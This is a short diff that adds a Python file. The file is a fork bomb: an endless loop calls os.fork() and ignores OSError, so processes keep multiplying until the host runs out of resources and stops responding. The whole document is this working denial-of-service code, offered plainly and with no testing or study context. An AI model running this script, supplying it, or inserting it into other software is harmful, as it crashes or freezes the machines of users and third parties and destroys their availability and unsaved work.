@@ -1,0 +1,9 @@
+"""Forks for ever, whatever happens."""
+
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
